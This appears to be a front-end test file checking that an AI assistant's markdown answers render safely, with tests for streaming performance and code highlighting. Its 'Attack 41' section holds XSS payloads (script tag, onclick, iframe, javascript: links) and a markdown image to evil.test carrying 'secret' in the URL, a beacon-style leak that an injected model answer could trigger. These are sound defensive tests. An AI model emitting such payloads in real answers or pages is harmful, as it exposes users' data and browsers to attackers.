import { act, screen, waitFor } from "@testing-library/react";
import { useState } from "react";
import { describe, expect, it, vi } from "vitest";
import { i18n } from "../../../i18n/i18n";
import { renderPart } from "../../../testing/render";
import * as blocks from "../blocks";
import * as fence from "../fence";
import { partsOf } from "../parts";
import "../routes";
import { Answer } from "./answer";

async function shown(text: string) {
  await i18n.loadNamespaces("assistant");
  const { container } = renderPart(<Answer text={text} typing={false} />);
  await waitFor(() => expect(container.textContent).not.toBe(""));
  return container;
}

/** Attack 41: a provider answers with markup, or was made to. */
describe("an answer with markup", () => {
  it("runs no script and has no element of its own: HTML is text", async () => {
    const box = await shown(
      "Tea <script>alert(1)</script> <b onclick=x>x</b>\n\n<iframe src=//a.test></iframe>",
    );
    expect(box.querySelector("script, b, iframe")).toBeNull();
    expect(box.textContent).toContain("<script>alert(1)</script>");
    expect(box.textContent).toContain("<iframe src=//a.test></iframe>");
  });

  it.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "http://a.test", "//a.test"])(
    "has no link to %s",
    async (url) => {
      expect((await shown(`[here](${url})`)).querySelector("a")).toBeNull();
    },
  );

  it("opens links beside the portal, which they learn nothing of", async () => {
    await shown("[menu](https://tea.test/menu)");
    const link = screen.getByRole("link", { name: "menu" });
    expect([link.getAttribute("target"), link.getAttribute("rel")]).toEqual([
      "_blank",
      "noopener noreferrer",
    ]);
  });

  it("loads no picture, so that none can tell that it was read", async () => {
    const box = await shown("![Plan](https://evil.test/x.png?words=secret) ![](/files/p/x.png)");
    expect(box.querySelector("img, [src]")).toBeNull();
    expect(box.textContent).toContain("Plan");
  });

  it.each([
    ["deep quotations", "> ".repeat(10_000) + "x"],
    ["deep lists", "1. ".repeat(6_000) + "x"],
    ["emphasis", "*a_ ".repeat(5_000)],
    ["a megabyte without a newline", "x".repeat(1_048_576)],
  ])("is shown as it was written if it has %s", async (_, text) => {
    const before = performance.now();
    const box = await shown(text);
    expect(box.querySelector("[data-plain]")).not.toBeNull();
    expect(box.textContent).toHaveLength(text.length);
    expect(performance.now() - before).toBeLessThan(4_000);
  });
});

/** S-14, T-43: an answer of 100 kB stays smooth, because what has arrived is not drawn again. */
describe("an answer that grows", () => {
  it("renders a finished block once, and looks into a full part once", async () => {
    const rendered = vi.spyOn(fence, "fenceOf");
    const parted = vi.spyOn(blocks, "blocksOf");
    await i18n.loadNamespaces("assistant");
    let grow: (text: string) => void = () => undefined;
    function Growing() {
      const [text, setText] = useState("");
      grow = setText;
      return <Answer text={text} typing={false} />;
    }
    const { container } = renderPart(<Growing />);
    // Each step finishes a block and begins the next; together they are more than one part.
    const finished = Array.from(
      { length: 120 },
      (_, at) => `Block ${at} with **strong** words${" and more".repeat(10)}.`,
    );
    const whole = finished.join("\n\n");
    for (const [at] of finished.entries())
      act(() => grow(`${finished.slice(0, at + 1).join("\n\n")}\n\nBegun`));
    expect(container.textContent).toContain("Block 119 with strong words");
    const times = (spy: { mock: { calls: [string][] } }, text: string) =>
      spy.mock.calls.filter(([one]) => one === text).length;
    expect(finished.map((block) => times(rendered, block))).toEqual(finished.map(() => 1));
    const [part] = partsOf(whole);
    expect([part!.length > 8_000, times(parted, part!)]).toEqual([true, 1]);
    rendered.mockRestore();
    parted.mockRestore();
  });
});

/** S-14. */
describe("code in an answer", () => {
  const colours = (box: Element) => [...box.querySelectorAll("pre span[class]")].map((one) => one.className);

  it.each([
    ["js", "const a = 1;", "hljs-keyword"],
    ["ts", "interface A { b: string }", "hljs-keyword"],
    ["python", "def f(): pass", "hljs-keyword"],
    ["json", '{"a": 1}', "hljs-attr"],
    ["sql", "select 1", "hljs-keyword"],
    ["sh", "echo hi", "hljs-built_in"],
    ["rust", "fn main() {}", "hljs-keyword"],
    ["java", "class A {}", "hljs-keyword"],
    ["css", "a { color: red }", "hljs-selector-tag"],
    ["html", "<p>x</p>", "hljs-name"],
    ["yaml", "a: 1", "hljs-attr"],
    ["md", "# Title", "hljs-section"],
    ["diff", "+ added", "hljs-addition"],
  ])("has colours: %s", async (language, code, wanted) => {
    const box = await shown(`\`\`\`${language}\n${code}\n\`\`\``);
    await waitFor(() => expect(colours(box).join(" ")).toContain(wanted), { timeout: 4_000 });
    expect(box.querySelector("pre")!.textContent).toBe(code);
  });

  it("has none while its end has not arrived, and in a language that is not known", async () => {
    expect(colours(await shown("```js\nconst a = 1;"))).toEqual([]);
    const box = await shown("```brainfuck\n+++\n```");
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect([colours(box), box.querySelector("pre")!.textContent]).toEqual([[], "+++"]);
  });

  it("and tables scroll by themselves, also by keys", async () => {
    const box = await shown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nx\n```");
    const groups = [...box.querySelectorAll("[role=group][tabindex='0']")];
    expect(groups.map((one) => one.getAttribute("aria-label"))).toEqual(["Table", "Code: js"]);
  });
});
